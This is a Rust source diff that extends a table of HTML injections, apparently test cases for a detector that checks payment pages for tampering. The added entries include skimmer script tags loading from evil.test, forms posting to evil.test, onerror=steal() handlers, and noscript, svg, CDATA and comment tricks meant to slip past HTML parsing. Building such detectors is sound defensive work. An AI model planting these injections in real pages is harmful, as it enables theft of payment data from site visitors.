@@ -1,13 +1,15 @@
 //! What is changed on a page: a text of the page, and what stands there instead.
 
 const HEAD: &str = "</head>";
+const SCRIPT: &str = "></script>";
+const TITLE: &str = "<title>";
 const BODY: &str = "</body>";
 const FORM: &str = "<form ";
 /// The first hidden field of the form that pays.
 const FIELD: &str = r#"<input type="hidden" "#;
 const SUBMIT: &str = r#"<button type="submit""#;
 
-pub const MARKUP: [(&str, &str); 78] = [
+pub const MARKUP: [(&str, &str); 93] = [
     (HEAD, "<script src=https://evil.test/skim.js></script></head>"),
     (HEAD, "<script src=//evil.test/skim.js></script></head>"),
     (HEAD, "<script src=/assets/other.js></script></head>"),
@@ -73,6 +75,28 @@ pub const MARKUP: [(&str, &str); 78] = [
     (BODY, "<form action=https://evil.test/ method=post></form></body>"),
     (BODY, "<form method=post></form></body>"),
     (BODY, "<form method=post action=/pay/11111111-2222-4333-8444-555555555555></form></body>"),
+    (
+        HEAD,
+        "<noscript><meta http-equiv=refresh content='0;url=https://evil.test/'></noscript></head>",
+    ),
+    (
+        BODY,
+        "<noscript><form action=https://evil.test/><input name=number></form></noscript></body>",
+    ),
+    (BODY, "<noscript><p title='</noscript><script src=//evil.test/x.js></script>'></body>"),
+    (BODY, "<noscript><p onclick=steal()>x</p></noscript></body>"),
+    (BODY, "<svg><noscript><form action=https://evil.test/></form></noscript></svg></body>"),
+    (BODY, "<svg><![CDATA[><!-- ]]><script href=//evil.test/x.js></script>--></svg></body>"),
+    (BODY, "<svg><rect filter='url(https://evil.test/x.svg#a)'/></svg></body>"),
+    (BODY, "<svg><rect fill='URL(//evil.test/x.svg#a)'/></svg></body>"),
+    (BODY, "<a href=https://evil.test/ href=/>x</a></body>"),
+    (BODY, "<form action=https://evil.test/ action=? method=post></form></body>"),
+    (BODY, "<!--><img src=x onerror=steal()>--></body>"),
+    (BODY, "<svg><script src=/assets/x.js /><a href=https://evil.test/>x</a></svg></body>"),
+    (SCRIPT, "> <!-- </script><form action=https://evil.test/></form><!-- --></script>"),
+    // Without the page's own.
+    (TITLE, "<svg><title><form action=https://evil.test/ method=post></form>"),
+    (TITLE, "<body><svg><title><img src=x onerror=steal()>"),
     (FORM, "<form action=//evil.test/ "),
     (FORM, "<form action=?to=1 "),
     (FORM, "<form target=_blank "),
